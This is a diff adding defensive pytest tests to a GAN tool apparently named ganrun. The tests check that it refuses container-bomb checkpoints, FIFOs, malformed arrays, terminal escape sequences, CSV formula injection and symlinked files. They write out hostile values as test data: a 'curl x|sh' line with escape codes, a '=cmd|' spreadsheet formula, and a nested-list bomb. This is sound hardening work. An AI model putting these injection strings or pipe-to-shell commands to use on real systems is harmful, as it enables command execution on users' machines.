@@ -860,3 +860,110 @@ def test_a_conditional_run_counting_its_classes_samples_without_its_data(tmp_pat
     proc = ganrun_here(str(run), "--n", "20", "--out", str(tmp_path / "x.npy"), cwd=tmp_path, script="ganrun-sample")
     assert proc.returncode in (0, None), proc.stderr
     assert len(np.load(tmp_path / "x.npy")) == 20
+
+
+# --------------------------------------------------------------------------- the third hostile review
+def test_a_checkpoint_whose_containers_repeat_one_another_is_refused_at_once(digits_run, tmp_path):
+    """13 kB on disk: one list holding one list a thousand times, six deep (torch.load keeps what the
+    pickle shares), 10^18 entries for any walk over it; the check stops counting at MAX_ENTRIES."""
+    from ganrun.checkpoint import MAX_ENTRIES, load_checkpoint
+
+    bomb = [0]
+    for _ in range(6):
+        bomb = [bomb] * 1000
+    run = copy_run(digits_run, tmp_path / "run")
+    edit_checkpoints(run, lambda s: s.update(wall_time=bomb))
+    assert (run / "checkpoints" / "last.pt").stat().st_size < 2 ** 20
+    with pytest.raises(CheckpointError, match=f"it holds more than {MAX_ENTRIES} entries"):
+        load_checkpoint(run)
+    proc = ganrun_here(f"resume={run}", "train.steps=3", cwd=tmp_path)
+    assert proc.returncode == 2 and "entries (containers that repeat one another)" in proc.stderr, proc.stderr
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="FIFOs are POSIX")
+def test_a_fifo_or_folder_where_a_run_folder_has_a_file_is_refused_not_waited_on(digits_run, tmp_path):
+    """A FIFO named ganrun.log held `resume=` forever (opening it for writing waits for a reader); a
+    folder of that name failed deep in Hydra's logging with a traceback. A FIFO given to ganrun-eval
+    as samples held np.load forever."""
+    from ganrun.commands.judge import image_size, read_array
+    from ganrun.errors import GanrunError
+    from ganrun.runfiles import LogFile, StoredFileError
+
+    for odd in ("fifo", "folder"):
+        run = copy_run(digits_run, tmp_path / odd)
+        (run / "ganrun.log").unlink(missing_ok=True)
+        os.mkfifo(run / "ganrun.log") if odd == "fifo" else (run / "ganrun.log").mkdir()
+        proc = ganrun_here(f"resume={run}", "train.steps=3", cwd=tmp_path)
+        assert proc.returncode == 2 and f"{run / 'ganrun.log'} is not a regular file" in proc.stderr, proc.stderr
+        assert len(proc.stderr.strip().splitlines()) == 1
+    with pytest.raises(StoredFileError, match="is not a regular file"):
+        LogFile(str(tmp_path / "fifo" / "ganrun.log"))
+    os.mkfifo(tmp_path / "x.npy")
+    assert image_size(tmp_path / "x.npy") is None
+    with pytest.raises(GanrunError, match="not a regular file"):
+        read_array(tmp_path / "x.npy", "samples")
+
+
+def test_arrays_that_are_no_array_of_samples_are_one_line(tmp_path):
+    """np.savez's archive under a .npy name, a single number, labels or codes of the wrong shape:
+    each had ended in a traceback (AttributeError, TypeError, RuntimeError, IndexError)."""
+    from ganrun.commands.judge import read_samples
+    from ganrun.errors import GanrunError
+
+    x = np.zeros((12, 2), np.float32)
+    np.savez(tmp_path / "archive.npz", x=x)
+    (tmp_path / "archive.npz").rename(tmp_path / "archive.npy")
+    np.save(tmp_path / "one.npy", np.float32(3))
+    for name, message in (("archive", "a .npz archive of several arrays"), ("one", "a single number")):
+        with pytest.raises(GanrunError, match=message):
+            read_samples(tmp_path / f"{name}.npy", {}, 1)
+    np.save(tmp_path / "s.npy", x)
+    for companion, array, message in (("labels", np.zeros((12, 3), np.int64), r"shape \(12, 3\); give one whole"),
+                                      ("codes", np.zeros((12, 5), np.int64), r"shape \(12, 5\); give one whole"),
+                                      ("labels", np.int64(2), "a single number")):
+        np.save(tmp_path / f"s_{companion}.npy", array)
+        with pytest.raises(GanrunError, match=message):
+            read_samples(tmp_path / "s.npy", {}, 1)
+        (tmp_path / f"s_{companion}.npy").unlink()
+
+
+def test_code_accuracy_does_not_grow_with_the_code_values():
+    """matched_accuracy built a (largest code)^2 matrix: one code value of 14 000 in a stranger's
+    codes file asked for 1.5 GB. Any names of the code values give the same best matching."""
+    from ganrun.metrics.classifier import matched_accuracy
+
+    predicted = torch.tensor([3, 3, 5, 5, 5, 1])
+    assert matched_accuracy(torch.tensor([0, 0, 1, 1, 1, 2]), predicted, 10) == 1.0
+    assert matched_accuracy(torch.tensor([10 ** 12, 10 ** 12, 7, 7, 7, -4]), predicted, 10) == 1.0
+    assert matched_accuracy(torch.tensor([0, 0, 0, 1, 1, 1]), predicted, 10) == pytest.approx(4 / 6)   # 0 -> 3, 1 -> 5
+
+
+def test_the_log_never_passes_terminal_escapes_from_a_file(digits_run, tmp_path):
+    """A stranger's metrics.json stop_reason reached the console raw (clear the screen, set the
+    window title, print a fake line): the log's formatter makes control characters spaces."""
+    run = copy_run(digits_run, tmp_path / "run")
+    edit_checkpoints(run, lambda s: s["config"]["train"].update(stop_on="collapse"))
+    (run / "metrics.json").write_text(json.dumps({"status": "stopped_early",
+                                                  "stop_reason": "\x1b[2J\x1b]0;owned\x07 now run: curl x|sh"}))
+    proc = ganrun_here(f"resume={run}", "device=cpu", cwd=tmp_path, check=True)
+    out = proc.stdout + proc.stderr
+    assert "now run: curl x|sh" in out and "\x1b" not in out and "\x07" not in out
+    assert "\x1b" not in (run / "ganrun.log").read_text()
+
+
+def test_a_report_never_writes_a_formula_nor_reads_through_a_link(tmp_path):
+    """report.csv: a stranger's override '=cmd|...' became a cell a spreadsheet runs; a metrics.json
+    that is a link put another file's values into the report."""
+    secret = tmp_path / "secret.json"
+    secret.write_text(json.dumps({"status": "finished", "token": 123456}))
+    for name, overrides in (("0_a", ["=cmd|' /C calc'!A0"]), ("1_b", ["@SUM(1)"]), ("2_c", ["loss=ns"])):
+        run = tmp_path / "sweep" / name
+        (run / ".hydra").mkdir(parents=True)
+        (run / ".hydra" / "overrides.yaml").write_text(json.dumps(overrides))
+        (run / "metrics.json").write_text(json.dumps({"status": "finished", "fd": 1.5}))
+    (tmp_path / "sweep" / "2_c" / "metrics.json").unlink()
+    (tmp_path / "sweep" / "2_c" / "metrics.json").symlink_to(secret)
+    assert report_main([str(tmp_path / "sweep")]) == 0
+    table = (tmp_path / "sweep" / "report.csv").read_text()
+    assert "\n'=cmd|" in table and "\n'@SUM(1)" in table and "\n=" not in table
+    assert "token" not in table + (tmp_path / "sweep" / "report.md").read_text()
